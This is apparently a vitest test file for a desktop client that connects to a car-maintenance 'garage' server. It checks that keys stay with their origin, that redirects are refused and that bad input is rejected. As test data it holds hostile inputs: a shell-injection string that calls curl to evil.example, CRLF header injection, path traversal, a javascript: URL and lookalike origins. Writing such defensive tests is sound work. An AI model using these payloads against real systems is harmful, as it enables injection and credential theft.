import { once } from 'node:events';
import { createServer, type IncomingMessage, type RequestListener } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import { garageContract, type GarageName } from '../../../src/shared/contract/garage.ts';
import type { ConnectionId } from '../../../src/shared/models/connection.ts';
import { mintToken } from '../../../src/shared/token.ts';
import { atEnd, startDesk, startGarage, type TestDesk } from './support.ts';

interface Recorded {
  origin: string;
  requests: IncomingMessage[];
}

async function recordingServer(answer: RequestListener): Promise<Recorded> {
  const requests: IncomingMessage[] = [];
  const server = createServer((request, response) => {
    requests.push(request);
    answer(request, response);
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  atEnd(async () => {
    server.closeAllConnections();
    server.close();
  });
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests };
}

const json = { 'content-type': 'application/json' };
const healthAnswer = JSON.stringify({ name: 'x', version: '1', apiVersion: 1 });
const keyRow = {
  id: 'k',
  name: 'k',
  scopes: null,
  canManage: true,
  prefix: 'x...',
  createdAt: '2026-01-01T00:00:00Z',
  lastUsedAt: null,
  expiresAt: null,
  state: 'active',
};
const meAnswer = JSON.stringify({
  account: {
    id: 'a',
    name: 'mallory',
    preferences: { distanceUnit: 'mi', currency: 'USD', timeZone: 'UTC' },
  },
  key: keyRow,
});

/** A server that passes for a garage until `rest` is asked. */
function almostGarage(rest: RequestListener): RequestListener {
  return (request, response) => {
    if (request.url === '/api/health') response.writeHead(200, json).end(healthAnswer);
    else if (request.url === '/api/me') response.writeHead(200, json).end(meAnswer);
    else rest(request, response);
  };
}

/** A desk pointed at a server, with a key for it. */
async function pointedAt(origin: string, key = mintToken('tok').text) {
  const one = await startDesk();
  await one.tested();
  const { id } = await one.ask('connection.add', { label: 'Elsewhere', origin });
  one.clipboard.text = key;
  await one.ask('heldKey.paste', { id });
  await one.ask('connection.activate', { id });
  await one.tested();
  return { one, id, key };
}

const carriesKey = (request: IncomingMessage, key: string): boolean =>
  JSON.stringify([request.url, request.rawHeaders]).includes(key);

describe('D2: the desk asks for the page, with the key', () => {
  it('answers the page from the garage and says that something changed', async () => {
    const one = await startDesk();
    await one.tested();
    const changed = one.event(({ name }) => name === 'garage.changed');
    const car = await one.ask('car.create', {
      nickname: 'E46',
      odometerUnit: 'mi',
      odometer: 128_140,
    });
    await changed;
    expect((await one.ask('car.list', {})).items).toEqual([car]);
    expect(await one.ask('car.delete', { id: car.id })).toBeNull();
  });

  it('sends the key as the connection says, to that origin alone', async () => {
    const server = await recordingServer(
      almostGarage((_, response) =>
        response.writeHead(200, json).end('{"items":[],"nextCursor":null}'),
      ),
    );
    const one = await startDesk();
    const { id } = await one.ask('connection.add', {
      label: 'Track',
      origin: server.origin,
      headerStyle: 'x-track-key',
    });
    one.clipboard.text = 'key-of-another-shape';
    await one.ask('heldKey.paste', { id });
    await one.ask('connection.activate', { id });
    await one.ask('car.list', {});
    const asked = server.requests.findLast(({ url }) => url?.startsWith('/api/cars'));
    expect(asked?.headers).toMatchObject({ 'x-track-key': 'key-of-another-shape' });
    expect(asked?.headers.authorization).toBeUndefined();
    expect(server.requests[0]?.headers['x-track-key']).toBeUndefined();
  });

  it('gives the garage’s own problem on, with its fields', async () => {
    const one = await startDesk();
    await one.tested();
    await expect(one.ask('car.get', { id: 'nobodys' })).rejects.toMatchObject({
      code: 'not_found',
    });
    await expect(one.ask('car.create', { nickname: '' })).rejects.toMatchObject({
      code: 'invalid_input',
      fields: expect.arrayContaining([expect.objectContaining({ path: 'nickname' })]),
    });
  });
});

describe('what the page may not ask', () => {
  const secretRows = (Object.keys(garageContract) as GarageName[]).filter(
    (name) => garageContract[name].isSecret,
  );

  it('refuses every row whose answer carries a secret, and nothing is made', async () => {
    const one = await startDesk();
    await one.tested();
    expect(secretRows).toEqual(['key.create', 'key.rotate', 'calendarFeed.create']);
    for (const name of secretRows) {
      const answered = await one.envelope(name, { name: 'x', scopes: ['read'] });
      expect(answered).toMatchObject({ ok: false, problem: { code: 'forbidden' } });
    }
    expect((await one.ask('key.list', {})).items).toHaveLength(1);
    expect((await one.ask('calendarFeed.list', {})).items).toEqual([]);
  });

  it('knows no other name, and takes no other message', async () => {
    const one = await startDesk();
    for (const name of ['__proto__', 'constructor', 'car.lust', '', 'toString', 'hasOwnProperty']) {
      expect(await one.envelope(name)).toMatchObject({ ok: false, problem: { code: 'not_found' } });
    }
    const extra = { name: 'car.list', input: {}, key: 'x' };
    for (const message of [
      null,
      7,
      'car.list',
      [],
      {},
      { name: 'x'.repeat(65), input: {} },
      extra,
    ]) {
      expect(await one.desk.request(message)).toMatchObject({
        ok: false,
        problem: { code: 'invalid_input' },
      });
    }
  });

  it('refuses an id that could lead elsewhere before anything is sent', async () => {
    const server = await recordingServer(
      almostGarage((_, response) => response.writeHead(404, json).end('{}')),
    );
    const { one } = await pointedAt(server.origin);
    const before = server.requests.length;
    const ids = [
      'http://evil.example/',
      '//evil.example',
      '../../evil',
      '..%2f..%2fme',
      '@evil.example',
    ];
    for (const id of [...ids, 'x\r\nx-evil: 1', 'x?key=1#', '', 7, null, {}]) {
      for (const name of ['car.get', 'car.delete', 'key.revoke', 'reminder.complete']) {
        const answered = await one.envelope(name, { id, date: '2026-01-01' });
        expect(answered).toMatchObject({ ok: false, problem: { code: 'invalid_input' } });
      }
    }
    expect(server.requests).toHaveLength(before);
  });

  it('adds no connection to an address that is no plain origin', async () => {
    const one = await startDesk();
    const addresses = {
      'a name before the address': 'http://127.0.0.1@evil.example',
      'a key in it': 'https://user:secret@garage.example',
      'a path': 'https://garage.example/api',
      'a query': 'https://garage.example/?x=1',
      'http elsewhere': 'http://garage.example',
      'http at a name that only looks local': 'http://127.0.0.1.evil.example',
      'a full stop that is none': 'http://localhost\u3002evil.example',
      'another scheme': 'ftp://127.0.0.1',
      'a script': 'javascript:alert(1)',
      'a port out of range': 'http://127.0.0.1:99999',
    };
    for (const [what, origin] of Object.entries(addresses)) {
      const answered = await one.envelope('connection.add', { label: 'x', origin });
      expect(answered, what).toMatchObject({ ok: false, problem: { code: 'invalid_input' } });
    }
  });

  it('adds no connection to what is no garage, to one of another version, or twice to the same', async () => {
    const plain = await recordingServer((_, response) => response.writeHead(200).end('<html>'));
    const newer = await recordingServer((_, response) =>
      response.writeHead(200, json).end(JSON.stringify({ name: 'x', version: '9', apiVersion: 2 })),
    );
    const one = await startDesk();
    const add = (origin: string) => one.ask('connection.add', { label: 'x', origin });
    await expect(add(plain.origin)).rejects.toMatchObject({ code: 'unavailable' });
    await expect(add(newer.origin)).rejects.toThrow(/newer than this app. Update TrackOut/);
    const { origin } = await startGarage();
    await add(origin);
    await expect(add(`${origin}/`)).rejects.toMatchObject({ code: 'conflict' });
    expect(one.desk.state().connections).toHaveLength(2);
  });

  it('has no request that changes a connection’s origin', async () => {
    const one = await startDesk();
    const { id } = one.own();
    const changed = await one.envelope('connection.update', {
      id,
      label: 'x',
      origin: 'https://evil.example',
    });
    expect(changed).toMatchObject({ ok: false, problem: { code: 'invalid_input' } });
  });
});

describe('the key never goes to another origin', () => {
  it('follows no redirect', async () => {
    const evil = await recordingServer((_, response) => response.writeHead(200, json).end('{}'));
    let status = 301;
    const server = await recordingServer(
      almostGarage((_, response) =>
        response.writeHead(status, { location: `${evil.origin}/api/cars` }).end(),
      ),
    );
    const { one } = await pointedAt(server.origin);
    for (status of [301, 302, 303, 307, 308]) {
      await expect(one.ask('car.list', {})).rejects.toThrow(/sends us elsewhere/);
      const adding = one.ask('car.create', { nickname: 'x', odometerUnit: 'mi' });
      await expect(adding).rejects.toThrow(/sends us elsewhere/);
    }
    expect(evil.requests).toEqual([]);
  });

  it('sends the old garage’s key nowhere after the app was pointed elsewhere mid-flight', async () => {
    const held: (() => void)[] = [];
    const first = await recordingServer(
      almostGarage((_, response) => {
        held.push(() => response.writeHead(200, json).end('{"items":[],"nextCursor":null}'));
      }),
    );
    const second = await recordingServer(
      almostGarage((_, response) =>
        response.writeHead(200, json).end('{"items":[],"nextCursor":null}'),
      ),
    );
    const { one, key } = await pointedAt(first.origin);
    const { id } = await addWithKey(one, second.origin);
    const flying = one.envelope('car.list');
    await expect.poll(() => held.length).toBe(1);
    await one.ask('connection.activate', { id });
    expect(await flying).toMatchObject({ ok: false, problem: { code: 'conflict' } });
    await one.ask('car.list', {});
    expect(second.requests.some((request) => carriesKey(request, key))).toBe(false);
  });

  it('lets many requests and switches cross, and each key stays with its origin', async () => {
    const answer = almostGarage((_, response) =>
      response.writeHead(200, json).end('{"items":[],"nextCursor":null}'),
    );
    const [first, second] = [await recordingServer(answer), await recordingServer(answer)];
    const { one, id, key } = await pointedAt(first.origin);
    const other = await addWithKey(one, second.origin);
    const all: Promise<unknown>[] = [];
    for (let round = 0; round < 40; round += 1) {
      all.push(one.envelope('car.list'), one.envelope('reminder.list'));
      all.push(one.envelope('connection.activate', { id: round % 2 === 0 ? other.id : id }));
      all.push(one.envelope('car.list'));
    }
    await Promise.all(all);
    expect(first.requests.some((request) => carriesKey(request, other.key))).toBe(false);
    expect(second.requests.some((request) => carriesKey(request, key))).toBe(false);
  });
});

describe('what a garage sends back', () => {
  it('drops fields it does not know and keeps what a newer garage adds to a list of words', async () => {
    const garage = await startGarage();
    const { one } = await pointedAt(garage.origin, garage.key);
    const car = await one.ask('car.create', { nickname: 'x', odometerUnit: 'mi' });
    const newer = await recordingServer(
      almostGarage((_, response) =>
        response.writeHead(200, json).end(JSON.stringify({ ...car, wings: 2, nested: { a: 1 } })),
      ),
    );
    await one.ask('connection.activate', { id: (await addWithKey(one, newer.origin)).id });
    expect(await one.ask('car.get', { id: car.id })).toEqual(car);
  });

  it.each([
    ['in an answer', 200, (key: string) => ({ items: [{ id: 'x', name: key }], nextCursor: key })],
    ['in a problem', 400, (key: string) => ({ code: 'invalid_input', detail: `Bad key ${key}` })],
  ])('does not show its own key %s', async (_, status, body) => {
    const key = mintToken('tok').text;
    const server = await recordingServer(
      almostGarage((_request, response) =>
        response.writeHead(status, json).end(JSON.stringify(body(key))),
      ),
    );
    const { one } = await pointedAt(server.origin, key);
    const answered = await one.envelope('car.list');
    expect(answered.ok).toBe(false);
    expect(one.shown.join('\n')).not.toContain(key.slice(12));
  });

  it('says in words when a garage answers with nonsense, too much, or not at all', async () => {
    const server = await recordingServer(
      almostGarage((request, response) => {
        if (request.url?.startsWith('/api/cars'))
          return response.writeHead(200, json).end('{"items":7}');
        if (request.url?.startsWith('/api/keys')) {
          return response.writeHead(200, json).end('x'.repeat(17 * 1024 * 1024));
        }
        return request.socket.destroy();
      }),
    );
    const { one } = await pointedAt(server.origin);
    await expect(one.ask('car.list', {})).rejects.toMatchObject({ code: 'unavailable' });
    await expect(one.ask('key.list', {})).rejects.toMatchObject({ code: 'too_large' });
    await expect(one.ask('reminder.list', {})).rejects.toMatchObject({ code: 'unavailable' });
    expect(one.active().health).toMatchObject({ state: 'failed' });
  });

  it('lets no secret of a garage’s making into a shell line or a link', async () => {
    const evil = "x'; curl evil.example #";
    const server = await recordingServer(
      almostGarage((request, response) => {
        const url = `https://evil.example/feed?key=${encodeURIComponent(evil)}`;
        const feed = {
          id: 'f',
          name: 'f',
          createdAt: keyRow.createdAt,
          lastFetchedAt: null,
          lastFetchedBy: null,
          url,
        };
        const body = request.url === '/api/keys' ? { ...keyRow, key: evil } : feed;
        response.writeHead(201, json).end(JSON.stringify(body));
      }),
    );
    const { one } = await pointedAt(server.origin);
    expect(await one.envelope('issuedKey.create', { name: 'x', scopes: ['read'] })).toMatchObject({
      ok: false,
    });
    expect(await one.envelope('calendarLink.create', { name: 'x' })).toMatchObject({ ok: false });
  });
});

async function addWithKey(
  one: TestDesk,
  origin: string,
): Promise<{ id: ConnectionId; key: string }> {
  const { id } = await one.ask('connection.add', { label: 'Another', origin });
  const key = mintToken('tok').text;
  one.clipboard.text = key;
  await one.ask('heldKey.paste', { id });
  return { id, key };
}
